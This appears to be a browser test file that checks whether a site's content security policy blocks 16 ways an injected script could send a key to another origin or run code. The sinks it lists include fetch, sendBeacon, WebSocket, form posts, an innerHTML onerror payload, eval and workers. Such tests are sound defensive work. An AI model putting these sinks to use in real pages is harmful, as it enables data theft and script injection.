import { createServer } from 'node:http'
import { close, listen } from '#tests/support/listen.ts'
import { expect, test } from './fixtures.ts'

/** Resolves when a request has ended. It runs in the page. */
function settled(target: EventTarget, success = 'load'): Promise<unknown> {
  return new Promise((resolve, reject) => {
    target.addEventListener(success, resolve)
    target.addEventListener('error', reject)
  })
}

/**
 * The ways in which an injected script could run more code or send the key to another origin. Each
 * function runs in the page, with an origin that the configuration does not name. Asynchronous ones
 * return a promise.
 */
const SINKS: Readonly<Record<string, (otherOrigin: string) => unknown>> = {
  fetch: (otherOrigin) => fetch(`${otherOrigin}/fetch`, { mode: 'no-cors' }),
  sendBeacon: (otherOrigin) => navigator.sendBeacon(`${otherOrigin}/beacon`, 'k'),
  WebSocket: (otherOrigin) => settled(new WebSocket(otherOrigin.replace('http', 'ws')), 'open'),
  'an image': (otherOrigin) => settled(Object.assign(new Image(), { src: `${otherOrigin}/image` })),
  'a form': (otherOrigin) => {
    const form = document.createElement('form')
    form.action = `${otherOrigin}/form`
    form.method = 'post'
    document.body.append(form)
    form.submit()
  },
  prefetch: (otherOrigin) => {
    const link = Object.assign(document.createElement('link'), {
      rel: 'prefetch',
      href: `${otherOrigin}/prefetch`,
    })
    document.head.append(link)
    return settled(link)
  },
  innerHTML: () => {
    document.body.innerHTML = '<img src="/none" onerror="ran.push(1)">'
  },
  // It is deprecated, but still a way to run code.
  // oxlint-disable-next-line typescript/no-deprecated
  'document.write': () => document.write('<p>written</p>'),
  'script.src': (otherOrigin) => {
    document.createElement('script').src = `${otherOrigin}/script.js`
  },
  DOMParser: () => new DOMParser().parseFromString('<p></p>', 'text/html'),
  'a timer of text': async () => {
    // oxlint-disable-next-line typescript/no-implied-eval
    setTimeout('ran.push("timer")')
    await new Promise((resolve) => setTimeout(resolve, 50))
    if (!String((window as unknown as { ran: string[] }).ran).includes('timer')) throw new Error('not run')
  },
  'the policy of the reader with another address': () => {
    type Policy = { createScriptURL: (url: string) => URL }
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (...args: unknown[]) => Policy }
    }
    // Once the app has made its policy, nobody can make another one of this name.
    return new Worker(
      trustedTypes
        .createPolicy('spreadsheet-reader-2', { createScriptURL: String })
        .createScriptURL('/assets/probe.js'),
    )
  },
  'a policy of its own': () =>
    (window as unknown as { trustedTypes: { createPolicy: (...args: unknown[]) => unknown } }).trustedTypes //
      .createPolicy('own', { createHTML: String }),
  // oxlint-disable-next-line no-eval
  eval: () => (0, eval)('ran.push("eval")'),
  Worker: () => new Worker('/assets/probe.js'),
  'a service worker': () => navigator.serviceWorker.register('/assets/probe.js'),
}

/**
 * Returns a script file of the site, because the debugger exempts code evaluated by a test from the
 * policy.
 */
function probe(otherOrigin: string): string {
  const sinks = Object.entries(SINKS).map(([name, sink]) => `${JSON.stringify(name)}: ${String(sink)}`)
  return `
    ${String(settled)}
    window.ran = []
    const violations = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
    const results = {}
    const attempt = async (name, sink) => {
      const [before, start] = [violations.length, performance.now()]
      let outcome = 'went through'
      try { await sink(${JSON.stringify(otherOrigin)}) } catch { outcome = 'refused' }
      // Violation events are dispatched in a task of their own.
      const isDue = () => outcome !== 'refused' && violations.length === before && performance.now() < start + 5000
      do await new Promise((resolve) => setTimeout(resolve, 50)); while (isDue())
      results[name] = outcome === 'refused' || violations.length > before ? 'blocked' : outcome
    }
    const run = async () => {
      for (const [name, sink] of Object.entries({ ${sinks.join(',\n')} })) await attempt(name, sink)
      window.results = results
    }
    void run()`
}

// The browser logs the requests that it blocks.
test.use({ expectsErrors: true })

test('each of 16 ways to run code or send data is blocked, and nothing arrives at another origin', async ({
  page,
  site,
}) => {
  const arrived: string[] = []
  const otherServer = createServer(({ url = '' }, outgoing) => {
    arrived.push(url)
    outgoing.end()
  })
  const origin = `http://127.0.0.1:${await listen(otherServer)}`
  site.interceptAssets((url, outgoing) => {
    if (url === '/assets/probe.html') {
      outgoing.setHeader('content-type', 'text/html')
      outgoing.end('<!doctype html><title>Probe</title><body><script src="/assets/probe.js"></script>')
    } else outgoing.setHeader('content-type', 'text/javascript').end(probe(origin))
    return 'answered'
  })
  await page.goto('/assets/probe.html')
  await page.waitForFunction(() => 'results' in window)
  const results = await page.evaluate(
    () => (window as unknown as { results: Record<string, string> }).results,
  )
  expect(results).toEqual(Object.fromEntries(Object.keys(SINKS).map((name) => [name, 'blocked'])))
  expect(Object.keys(results)).toHaveLength(16)
  expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
  expect(arrived).toEqual([])
  await close(otherServer)
})
